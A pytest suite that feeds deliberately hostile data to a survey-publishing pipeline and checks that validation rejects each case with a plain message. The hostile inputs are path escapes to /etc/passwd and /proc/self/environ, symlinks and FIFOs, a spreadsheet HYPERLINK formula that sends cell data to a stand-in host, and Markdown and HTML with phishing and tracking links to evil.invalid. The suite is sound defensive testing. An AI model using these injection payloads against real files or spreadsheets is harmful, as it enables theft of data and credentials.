"""Hostile data (issue 14): every test starts from a copy of data/ and breaks one thing.

Nothing outside the data directory is read or published, and every bad input is
stopped by validation with a sentence (file, line, field, what is wrong, how to fix it).
"""
from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from src.data.figures import book_problems
from src.data.files import MAX_FILE_BYTES, published_files
from src.data.package import MAX_LABEL, MAX_ROWS
from src.data.rules import MAX_CELL
from src.data.validate import validate_directory

from conftest import REPO, run_build

SECRET = "hostile-test-secret-4f1e"


@pytest.fixture
def data(tmp_path) -> Path:
    """A private copy of data/."""
    return Path(shutil.copytree(REPO / "data", tmp_path / "data"))


def problems(directory: Path) -> str:
    return "\n".join(str(p) for p in validate_directory(directory, requirements=[book_problems]))


def edit_package(directory: Path, change) -> None:
    path = directory / "datapackage.json"
    package = json.loads(path.read_text(encoding="utf-8"))
    change(package)
    path.write_text(json.dumps(package, ensure_ascii=False, indent=1), encoding="utf-8")


def set_path(directory: Path, name: str, path: str) -> None:
    edit_package(directory, lambda p: next(r for r in p["resources"] if r["name"] == name).update(path=path))


def replace_in(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new), encoding="utf-8")


def validate_cli(directory: Path | str) -> subprocess.CompletedProcess:
    """The `validate` command, with a timeout: opening a FIFO would block for ever."""
    return subprocess.run([sys.executable, "-m", "src.pipeline", "validate", "--data", str(directory)], cwd=REPO,
                          capture_output=True, text=True, timeout=60, env=dict(os.environ, HOSTILE=SECRET))


def test_the_real_data_passes(data):
    assert problems(data) == ""


# --------------------------------------------------------------------------- 1. confinement

@pytest.mark.parametrize("path, reason", [
    ("/proc/self/environ", "is an absolute path"),
    ("/etc/passwd", "is an absolute path"),
    ("../../x.csv", "leads out of the data directory"),
])
def test_paths_leaving_the_directory_are_refused_without_reading_them(data, path, reason):
    set_path(data, "fig12", path)
    proc = validate_cli(data)
    assert proc.returncode == 1
    assert f"field 'path': resource 'fig12': '{path}' {reason}" in proc.stderr and "nothing was read" in proc.stderr
    assert SECRET not in proc.stderr + proc.stdout and "root:" not in proc.stderr


def test_a_symlink_leaving_the_directory_is_refused_without_opening_it(data, tmp_path):
    outside = tmp_path / "outside.fifo"
    os.mkfifo(outside)                       # opening it would hang the validation
    (data / "fig12.csv").unlink()
    (data / "fig12.csv").symlink_to(outside)
    proc = validate_cli(data)
    assert proc.returncode == 1
    assert "'fig12.csv' is a symbolic link to a file outside the data directory; nothing was read" in proc.stderr


def test_a_symlink_to_a_host_file_is_refused_and_its_content_never_quoted(data):
    (data / "fig12.csv").unlink()
    (data / "fig12.csv").symlink_to("/etc/passwd")
    text = problems(data)
    assert "symbolic link to a file outside the data directory" in text and "root" not in text


def test_readme_linked_from_outside_is_refused_and_not_published(data, tmp_path):
    secret = tmp_path / "secret.md"
    secret.write_text(SECRET, encoding="utf-8")
    (data / "README.md").unlink()
    (data / "README.md").symlink_to(secret)
    assert "README.md: 'README.md' is a symbolic link to a file outside the data directory" in problems(data)
    assert "README.md" not in [p.name for p in published_files(data)]


def test_only_listed_regular_files_are_published(data):
    (data / "notes.txt").write_text("private", encoding="utf-8")
    names = [p.name for p in published_files(data)]
    # table.schema.json too: the published datapackage.json names it as every resource's schema
    assert names == sorted(["README.md", "datapackage.json", "fig01.csv", "fig03.csv", "fig04.csv", "fig11.csv",
                            "fig12.csv", "fig13.csv", "fig14.csv", "fig15.csv", "fig16.csv", "table.schema.json"])


def test_a_table_in_a_subdirectory_is_refused_with_the_fix(data):
    (data / "sub").mkdir()
    (data / "fig12.csv").rename(data / "sub" / "fig12.csv")
    set_path(data, "fig12", "sub/fig12.csv")
    text = problems(data)
    assert "'sub/fig12.csv' is in a subdirectory" in text
    assert 'copy the table into the data directory (e.g. as fig12.csv) and set "path" to its name' in text


# --------------------------------------------------------------------------- 4. validation before any chapter

@pytest.mark.parametrize("char", ["\x00", "\x0b", "\x1b", "\u2028"])
def test_control_characters_in_a_label_are_refused(data, char):
    replace_in(data / "fig12.csv", "常勤職員,", f"常勤{char}職員,")
    text = problems(data)
    assert f"fig12.csv, line 2, field 'item': contains the control character U+{ord(char):04X}" in text


def test_control_characters_in_metadata_are_refused(data):
    edit_package(data, lambda p: p["resources"][11].update(title="職員\x0bの配置"))
    assert "field 'resources[11].title'" in problems(data)


def test_missing_survey_block_is_refused(data):
    edit_package(data, lambda p: p.pop("survey"))
    assert "datapackage.json, field 'survey': 'survey' is missing — fix: add the \"survey\" block" in problems(data)


def test_population_zero_is_refused(data):
    edit_package(data, lambda p: p["survey"].update(population=0))
    text = problems(data)
    assert "field 'survey.population': 0 is not allowed here (must be ≥ 1)" in text


def test_figure_without_table_needs_prose_facts(data):
    edit_package(data, lambda p: p["resources"][4].pop("prose_facts"))
    text = problems(data)
    assert "field 'resources[4].prose_facts': 'prose_facts' is missing in resources[4]" in text
    assert "a figure without a table needs \"prose_facts\"" in text


def test_extra_metadata_keys_are_allowed(data):
    def add(p):
        p["sources"][0].update(path="https://example.org/dp145.pdf", publisher="NISTEP", erratum={"date": "2017-05"})
        p["resources"][0]["derived"] = "a note"
    edit_package(data, add)
    assert problems(data) == ""


def test_too_many_rows_are_refused(data):
    rows = "".join(f",選択肢{i},,1,{MAX_ROWS + 1},0.5\n" for i in range(MAX_ROWS + 1))
    (data / "fig12.csv").write_text("series,item,level,count,n,percent\n" + rows, encoding="utf-8")
    assert f"fig12.csv: has {MAX_ROWS + 1} rows; the limit is {MAX_ROWS}" in problems(data)


def test_a_long_label_is_refused(data):
    replace_in(data / "fig12.csv", "常勤職員,", "職" * (MAX_LABEL + 1) + ",")
    assert f"field 'item': is {MAX_LABEL + 1} characters long; the limit is {MAX_LABEL}" in problems(data)


def test_a_cell_beyond_the_csv_field_limit_is_a_message(data):
    # MAX_CELL, not csv.field_size_limit(): that global is whatever the last library set (Frictionless: 2**31)
    replace_in(data / "fig12.csv", "常勤職員,", "職" * (MAX_CELL + 1) + ",")
    assert "fig12.csv, line 2: a cell is longer than 131,072 characters" in problems(data)


def test_an_oversized_file_is_refused_before_reading(data):
    with open(data / "fig12.csv", "ab") as fh:
        fh.truncate(MAX_FILE_BYTES + 1)
    assert f"is {MAX_FILE_BYTES + 1:,} bytes; the limit is {MAX_FILE_BYTES:,} bytes" in problems(data)


def test_an_oversized_file_is_hashed_without_reading_it_whole(data, tmp_path):
    # Issue 22 item 13: the build hashed every data file with read_bytes() before the size check refused it (1.07 GB RSS
    # for a 1 GB file). Not a speed target: whether hashing streams is a yes/no property, seen in the peak allocation.
    import tracemalloc

    from src.build import cli
    from src.build.changes import data_digest

    size = 64 * 1024 * 1024
    with open(data / "fig12.csv", "ab") as fh:
        fh.truncate(size)
    tracemalloc.start()
    try:
        cli.inputs_digest(REPO, data, tmp_path / "build")
        data_digest(data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < size // 8, f"hashing the data directory allocated {peak:,} bytes for a {size:,}-byte file"


def test_datapackage_json_as_a_directory_is_a_message(data):
    (data / "datapackage.json").unlink()
    (data / "datapackage.json").mkdir()
    proc = validate_cli(data)
    assert proc.returncode == 1 and "datapackage.json: is a directory, not a file" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_datapackage_json_as_a_fifo_does_not_hang(data):
    (data / "datapackage.json").unlink()
    os.mkfifo(data / "datapackage.json")
    proc = validate_cli(data)
    assert proc.returncode == 1 and "datapackage.json: is not a regular file" in proc.stderr


def test_utf16_is_named_as_utf16(data):
    text = (data / "fig12.csv").read_text(encoding="utf-8")
    (data / "fig12.csv").write_bytes(text.encode("utf-16"))
    text = problems(data)
    assert "fig12.csv: the file is UTF-16" in text and "CP932" not in text.split("fix:")[0]


def test_data_that_is_a_file_is_not_a_directory(data):
    proc = validate_cli(data / "fig12.csv")
    assert proc.returncode == 1 and "fig12.csv: is not a directory" in proc.stderr


def test_validate_does_not_say_build_failed(data):
    replace_in(data / "fig12.csv", ",31,108,", ",310,108,")
    proc = validate_cli(data)
    assert proc.returncode == 1
    assert "BUILD FAILED" not in proc.stderr and "INVALID" in proc.stderr
    assert "count 310 is larger than n 108" in proc.stderr


@pytest.mark.parametrize("cell, expected", [
    ("３１", "'３１' is written with full-width or other non-ASCII digits (write 31)"),
    ("٣١", "'٣١' is written with full-width or other non-ASCII digits (write 31)"),
    ("3_1", "'3_1' contains '_'"),
    ("3.1e1", "'3.1e1' is in exponent notation (write it out, e.g. 31)"),
    ("+31", "'+31' is not a plain number"),
    ("-0", "'-0' has a minus sign"),
])
def test_numbers_are_plain_ascii_or_refused(data, cell, expected):
    replace_in(data / "fig12.csv", ",31,108,", f",{cell},108,")
    text = problems(data)
    assert f"fig12.csv, line 2, field 'count': {expected}" in text


# --------------------------------------------------------------------------- 5. spreadsheet formulas

@pytest.mark.parametrize("label", ['=HYPERLINK("http://x.example/?"&A1,"x")', "+1", "-職員", "@SUM(A1)",
                                   "\t=1+1", "\r=1+1"])
def test_labels_a_spreadsheet_would_run_are_refused(data, label):
    quoted = '"' + label.replace('"', '""') + '"'
    replace_in(data / "fig12.csv", "常勤職員,", quoted + ",")
    text = problems(data)
    assert "fig12.csv, line 2, field 'item': begins with" in text
    assert "would run the cell as a formula" in text


def test_the_build_stops_at_validation_before_any_chapter_runs(data, tmp_path):
    replace_in(data / "fig12.csv", "常勤職員,", "常勤\x0b職員,")
    proc = run_build(data, tmp_path / "_build")
    assert proc.returncode == 1
    assert "fig12.csv, line 2, field 'item': contains the control character U+000B" in proc.stderr
    assert "chapters:" not in proc.stdout and "BrokenProcessPool" not in proc.stderr
    assert not (tmp_path / "_build" / "html").exists()


def test_the_cache_keys_on_the_resolved_directory_not_the_name_shown(tmp_path):
    from src.build.plan import plan_tasks

    first = Path(shutil.copytree(REPO / "data", tmp_path / "one" / "data"))
    second = Path(shutil.copytree(REPO / "data", tmp_path / "two" / "data"))
    one, two = (plan_tasks(REPO, tmp_path / "_build", d) for d in (first, second))
    assert [t.parameters["data_dir"] for t in one] == [t.parameters["data_dir"] for t in two] == ["data"] * len(one)
    assert not {t.key for t in one} & {t.key for t in two}
    assert {t.data_dir for t in one} == {first.resolve()}


# Markdown, a MyST role, MyST math and raw HTML, each of which would make an element or a request if not read as text.
MARKUP = " **B** [l](https://evil.invalid/phish) ![t](https://evil.invalid/t.png) {sub}`s` $x$ <b>h</b> &lt;i&gt;"
PLANTED = ("<strong>B</strong>", 'href="https://evil.invalid', 'src="https://evil.invalid', "<sub>s</sub>",
           "<b>h</b>", "<i>", 'class="math')


def test_a_report_address_that_carries_markup_is_refused(data):
    """Issue 22 item 1: the address is glued into a Markdown link; anything but a plain https:// URL is refused."""
    edit_package(data, lambda p: p["sources"][0].update(
        path="https://www.nistep.go.jp/archives/32309)![t](https://evil.invalid/track.png) **BOLD**("))
    found = problems(data)
    assert "sources[0].path" in found and "not a plain https:// address" in found and "starting https://" in found


def _plant_markup(package: dict) -> list[str]:
    """Append MARKUP to every free-text metadata string the pages show (and to its English translation)."""
    english = package.setdefault("translations", {}).setdefault("en", {})
    planted = []

    def plant(holder: dict, key: str) -> None:
        old = holder.get(key)
        if not isinstance(old, str) or not old:
            return
        holder[key] = old[:90] + MARKUP      # labels are at most 200 characters
        if old in english:
            english[holder[key]] = english.pop(old)[:90] + MARKUP
        planted.append(key)

    source = package["sources"][0]
    for key in ("title", "series", "publisher", "part_used"):
        plant(source, key)
    for erratum in source.get("errata", []):
        for key in ("statement", "location", "note"):
            plant(erratum, key)
    for key in ("population_description", "projects_since_fiscal_year_label"):
        plant(package["survey"], key)
    for resource in package["resources"]:
        plant(resource, "title")
    return planted


@pytest.fixture(scope="module")
def marked_up_site(tmp_path_factory) -> Path:
    """One build for every field: a copy of data/ with markup appended to each metadata text."""
    data = Path(shutil.copytree(REPO / "data", tmp_path_factory.mktemp("markup") / "data"))
    planted = []
    edit_package(data, lambda p: planted.extend(_plant_markup(p)))
    assert {"title", "series", "statement", "note"} <= set(planted)
    proc = run_build(data, data.parent / "_build")
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    return data.parent / "_build" / "html"


def test_markup_in_metadata_reaches_no_page_as_markup(marked_up_site):
    """Issue 22 item 1: every page shows the planted text as text — no element, link or image the data did not mean."""
    pages = sorted(marked_up_site.rglob("*.html"))
    assert pages
    shown = [p for p in pages if "evil.invalid/phish" in p.read_text(encoding="utf-8")]
    assert shown, "the planted text is shown nowhere: the test would prove nothing"
    found = {f"{p.relative_to(marked_up_site)}: {m}" for p in pages for m in PLANTED if m in p.read_text(encoding="utf-8")}
    assert not found, sorted(found)[:20]


def _resource(package: dict, name: str) -> dict:
    return next(r for r in package["resources"] if r["name"] == name)


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
def test_a_non_finite_number_in_the_metadata_is_refused(data, constant):
    """Issue 22 item 5: JSON's NaN/Infinity would print an empty number in a sentence."""
    replace_in(data / "datapackage.json", '"percent": 65.0', f'"percent": {constant}')
    found = problems(data)
    assert f"{constant} is not a number" in found and "write a finite number" in found


def test_a_key_written_twice_in_the_metadata_is_refused(data):
    """Accepted item of issue 22: duplicate keys are rejected (data/README.md), not silently last-wins."""
    replace_in(data / "datapackage.json", '"percent": 65.0,', '"percent": 65.0, "percent": 70.0,')
    found = problems(data)
    assert "the key \"percent\" is written twice" in found and "keep one" in found


@pytest.mark.parametrize("change, field, expected", [
    (lambda p: p["sources"][0]["errata"].__setitem__(0, {}), "sources[0].errata[0]", "'date' is missing"),
    (lambda p: p["sources"][0].update(issued="April 2017"), "sources[0].issued", "YYYY-MM"),
    (lambda p: p.update(sources=["x"]), "sources[0]", "must be an object"),
    (lambda p: _resource(p, "fig11").update(undetermined_cells="x"), "resources[10].undetermined_cells", "must be a list"),
    (lambda p: _resource(p, "fig12").update(derived_cells=[{"series": 5}]), "resources[11].derived_cells[0]", "'item' is missing"),
])
def test_metadata_the_chapters_read_is_validated_first(data, change, field, expected):
    """Issue 22 item 12: each of these ended in a traceback inside a chapter; now validation names the field."""
    edit_package(data, change)
    found = problems(data)
    assert f"field '{field}" in found and expected in found, found


def test_a_bidi_control_in_a_label_is_refused(data):
    """Accepted item of issue 22: a right-to-left override would make the published CSV read unlike the page."""
    path = data / "fig01.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("国内の産学連携どちらも", "国内の\u202e産学連携どちらも", 1),
                    encoding="utf-8")
    assert "fig01.csv, line 2, field 'item': contains the control character U+202E" in problems(data)


@pytest.mark.parametrize("old, new, expected", [
    ('"population": ', '"population": ' + "9" * 400 + ', "was": ', "more than 15 digits"),
    ('"title": "アンケート', '"title": "\\ud800アンケート', "lone surrogate"),
    ('"reported_in_prose": [', '"x": ' + "[" * 900 + "]" * 900 + ', "reported_in_prose": [', "nested more than 20 levels"),
])
def test_metadata_no_check_could_handle_is_a_sentence_not_a_traceback(data, old, new, expected):
    """Issue 22 item 12: OverflowError, UnicodeEncodeError after "is valid", RecursionError — now a sentence."""
    replace_in(data / "datapackage.json", old, new)
    proc = validate_cli(data)
    assert proc.returncode != 0 and expected in proc.stdout + proc.stderr and "Traceback" not in proc.stderr


@pytest.mark.parametrize("figure, series, stated, found", [("fig12", "", 110, 108), ("fig11", "ライセンシング", 105, 106)])
def test_a_stated_n_that_disagrees_with_the_table_is_an_error(data, figure, series, stated, found):
    # Issue 22 item 6: the caption printed the metadata's n while every row of the table said another one
    def change(package):
        next(r for r in package["resources"] if r["name"] == figure)["n"][series] = stated

    edit_package(data, change)
    where = f"series '{series}'" if series else "the figure"
    assert f"{figure}.csv, line " in problems(data)
    assert f"n {found} disagrees with the n {stated} that datapackage.json states for {where}" in problems(data)


def test_figure_11_with_one_series_is_a_validation_message(data):
    # Issue 22 item 12: with the licensing rows gone, validation passed and the chapter stopped with an IndexError
    csv_path = data / "fig11.csv"
    lines = csv_path.read_text(encoding="utf-8").splitlines(keepends=True)
    csv_path.write_text("".join(line for line in lines if not line.startswith("ライセンシング,")), encoding="utf-8")
    assert "fig11.csv, field 'series': has no rows of series 'ライセンシング', which datapackage.json's n names" in problems(data)


def test_a_series_the_metadata_does_not_name_is_a_validation_message(data):
    replace_in(data / "fig12.csv", ",常勤職員,", "教員,常勤職員,")
    assert "fig12.csv, line 2" in problems(data)
    assert "series '教員' is not one of the series datapackage.json's n names ('')" in problems(data)


@pytest.mark.parametrize("field", ["count", "n", "percent"])
def test_a_400_digit_number_in_a_table_is_a_sentence(data, field):
    # Issue 22 item 12: OverflowError (count, n) and decimal.InvalidOperation (percent) escaped validation
    path = data / "fig12.csv"
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    rows[0][field] = "9" * 400
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert f"fig12.csv, line 2, field '{field}': '999999999999…' has 400 digits" in problems(data)


@pytest.mark.parametrize("links", [{"fig12.csv": "fig12.csv"}, {"fig12.csv": "other.csv", "other.csv": "fig12.csv"}])
def test_a_symlink_loop_is_a_sentence_in_validate_and_build(data, tmp_path, links):
    # Issue 22 item 12: pathlib raised RuntimeError("Symlink loop") from validation and from the input digest
    (data / "fig12.csv").unlink()
    for name, target in links.items():
        os.symlink(target, data / name)
    expected = "'fig12.csv' is a symbolic link that leads back to itself (a loop)"
    proc = validate_cli(data)
    assert proc.returncode == 1 and expected in proc.stderr and "Traceback" not in proc.stderr
    build = run_build(data, tmp_path / "build")
    assert build.returncode == 1 and expected in build.stdout + build.stderr and "Traceback" not in build.stderr


@pytest.mark.parametrize("a, b", [(3, 4), (13, 14)])
def test_swapped_tables_are_named_as_swapped_first(data, a, b):
    # Issue 22 item 14: two figures' files swapped ended in a claims error (or a list of percent and n
    # disagreements) that pointed the author at the prose; the files' own series and n say whose they are
    first, second = data / f"fig{a:02d}.csv", data / f"fig{b:02d}.csv"
    first_text = first.read_bytes()
    first.write_bytes(second.read_bytes())
    second.write_bytes(first_text)
    found = [str(p) for p in validate_directory(data, requirements=[book_problems])]
    assert found[0].startswith(f"fig{a:02d}.csv, field 'n': looks like figure {b}'s table, not figure {a}'s")
    assert found[1].startswith(f"fig{b:02d}.csv, field 'n': looks like figure {a}'s table, not figure {b}'s")
    assert "were not swapped" in found[0]


def test_an_unswapped_package_says_nothing_of_swaps(data):
    replace_in(data / "fig12.csv", ",常勤職員,,31,108,28.7", ",常勤職員,,31,109,28.4")   # a wrong n, not a swap
    text = problems(data)
    assert "n 109 disagrees with the n 108" in text and "looks like figure" not in text


# Made-up tables for figure 2 (the summary prints only two of its values, in its text): counts of the
# report's n 675, written here for the tests, never in data/.
FIG02_AGREEING = ("series,item,level,count,n,percent\n,国際的な産学連携を行うのに十分な体制がない,,439,675,65.0\n"
                  ",国際的な産学連携を試みたが、実施に至らなかった,,24,675,3.6\n,架空の理由（テスト用）,,212,675,31.4\n")
FIG02_CONTRADICTING = ("series,item,level,count,n,percent\n,架空の理由（テスト用）,,300,675,44.4\n"
                       ",国際的な産学連携を行うのに十分な体制がない,,200,675,29.6\n"
                       ",国際的な産学連携を試みたが、実施に至らなかった,,24,675,3.6\n,架空の理由その二（テスト用）,,151,675,22.4\n")


def supply_fig02(data: Path, table: str) -> None:
    (data / "fig02.csv").write_text(table, encoding="utf-8")
    edit_package(data, lambda p: next(r for r in p["resources"] if r["name"] == "fig02").update(
        path="fig02.csv", published=True) or next(r for r in p["resources"] if r["name"] == "fig02").pop("data"))


def test_a_supplied_table_that_contradicts_the_reports_text_stops_the_build(data, tmp_path):
    # Issue 22 item 4: a fig02.csv whose leading reason is another built with rc 0; the chart showed it leading
    # while the landing page, Ⅱ-2 and Ⅲ said the main reason is 体制の不足 (65.0 %)
    supply_fig02(data, FIG02_CONTRADICTING)
    assert problems(data) == ""                  # a valid table: the contradiction is with the prose
    proc = run_build(data, tmp_path / "_build")
    output = proc.stdout + proc.stderr
    assert proc.returncode == 1, output
    assert "fig02_no_structure_item/_pct" in output                   # the sentence, by the names it uses
    assert "表では2位" in output and "the table has place 2" in output  # what the table says, in both languages
    assert "03_non_adopters" in output or "index" in output            # the chapter
    assert not (tmp_path / "_build" / "html").exists()


def test_a_supplied_table_that_agrees_with_the_reports_text_passes_the_check(data):
    from src.book.claims import check_prose_facts
    from src.data.package import load_survey

    supply_fig02(data, FIG02_AGREEING)
    check_prose_facts(load_survey(data), 2)      # raises ClaimError on a contradiction


def test_a_figure_without_a_stated_n_is_never_called_swapped(data):
    # review: figure 16 states no n (null); a legitimate figure 15 whose stated n equals figure 16's table n made
    # the swap check say "fig16.csv looks like figure 15's table" and stop the build
    n16 = next(r for r in csv.DictReader((data / "fig16.csv").open(encoding="utf-8")))["n"]
    edit_package(data, lambda p: next(r for r in p["resources"] if r["name"] == "fig15").update(n={"": int(n16)}))
    assert "looks like figure" not in problems(data)
